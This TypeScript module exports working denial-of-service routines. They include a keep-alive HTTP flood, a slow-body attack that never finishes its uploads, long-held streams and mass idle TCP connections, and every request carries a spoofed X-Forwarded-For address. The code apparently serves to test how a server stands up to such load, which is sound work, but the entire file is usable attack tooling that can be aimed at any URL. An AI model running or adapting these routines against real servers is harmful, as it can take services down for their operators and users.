/** Ways to keep a server busy. Each goes on until its signal aborts. */
import { Agent, type OutgoingHttpHeaders, request as httpRequest } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Tally } from './tally.ts';

/** The attacker's address, as our proxy reports it. */
const ADDRESS = '203.0.113.66';
const REST_MS = 200;

export interface AttackRequest {
  readonly url: URL;
  readonly method?: string;
  readonly headers?: OutgoingHttpHeaders;
  readonly body?: string;
}

interface FloodOptions {
  readonly connections: number;
  /** Returns the nth request. */
  readonly request: (n: number) => AttackRequest;
}

const headersOf = ({ headers }: Pick<AttackRequest, 'headers'>): OutgoingHttpHeaders => ({
  'X-Forwarded-For': ADDRESS,
  ...headers,
});

/** Sends a request and reads the whole answer. Resolves to its status, or to 0 if the connection broke. */
function send({ url, method = 'GET', headers, body }: AttackRequest, agent: Agent): Promise<number> {
  return new Promise((resolve) => {
    const length = body === undefined ? {} : { 'Content-Length': Buffer.byteLength(body) };
    const request = httpRequest(url, { method, agent, headers: { ...headersOf({ headers }), ...length } });
    request.on('error', () => resolve(0));
    request.on('response', (response) => {
      response.on('end', () => resolve(response.statusCode ?? 0)).on('error', () => resolve(0));
      response.resume();
    });
    request.end(body);
  });
}

/** Sends requests over as many connections as fast as they are answered. */
export async function flood({ connections, request }: FloodOptions, tally: Tally, over: AbortSignal) {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  over.addEventListener('abort', () => agent.destroy());
  let n = 0;
  const goOn = async () => {
    while (!over.aborted) {
      const status = await send(request((n += 1)), agent);
      if (over.aborted) return;
      tally.count(status);
      // A refused connection would be tried again thousands of times a second.
      if (status === 0) await sleep(REST_MS);
    }
  };
  await Promise.all(Array.from({ length: connections }, goOn));
}

/** Sends bodies a kilobyte at a time, without ever ending one, and again as soon as it is refused. */
export async function sendSlowly({ connections, request }: FloodOptions, tally: Tally, over: AbortSignal) {
  const goOn = async (n: number) => {
    while (!over.aborted) {
      tally.count(await sendOneSlowly(request(n), over));
      await sleep(REST_MS);
    }
  };
  await Promise.all(Array.from({ length: connections }, (_, n) => goOn(n)));
}

function sendOneSlowly({ url, method = 'POST', headers }: AttackRequest, over: AbortSignal): Promise<number> {
  return new Promise((resolve) => {
    const request = httpRequest(url, { method, agent: false, headers: headersOf({ headers }) });
    const end = (status: number) => {
      clearInterval(timer);
      request.destroy();
      resolve(status);
    };
    const timer = setInterval(() => request.write(Buffer.alloc(1024, 'a')), 50);
    over.addEventListener('abort', () => end(0), { once: true });
    request.on('response', ({ statusCode }) => end(statusCode ?? 0)).on('error', () => end(0));
    request.write(Buffer.alloc(16_384, 'a'));
  });
}

/** Opens streams and reads them. One that ends is opened again. */
export async function openStreams({ connections, request }: FloodOptions, tally: Tally, over: AbortSignal) {
  const goOn = async (n: number) => {
    while (!over.aborted) {
      tally.count(await send(request(n), STREAM_AGENT));
      await sleep(REST_MS);
    }
  };
  over.addEventListener('abort', () => STREAM_AGENT.destroy());
  await Promise.all(Array.from({ length: connections }, (_, n) => goOn(n)));
}
const STREAM_AGENT = new Agent({ maxSockets: Number.POSITIVE_INFINITY });

/** Opens connections that never send anything. One that is closed is opened again. */
export async function openIdleSockets(url: URL, connections: number, tally: Tally, over: AbortSignal) {
  const sockets = new Set<Socket>();
  const open = () => {
    if (over.aborted) return;
    const socket = connect(Number(url.port), url.hostname).on('error', () => tally.count(0));
    sockets.add(socket);
    socket.once('close', () => {
      sockets.delete(socket);
      setTimeout(open, REST_MS);
    });
  };
  for (let n = 0; n < connections; n += 1) {
    open();
    // As many at once would fill the machine's queue of connections to accept.
    if (n % 50 === 0) await sleep(5);
  }
  await new Promise((resolve) => over.addEventListener('abort', resolve, { once: true }));
  for (const socket of sockets) socket.destroy();
}
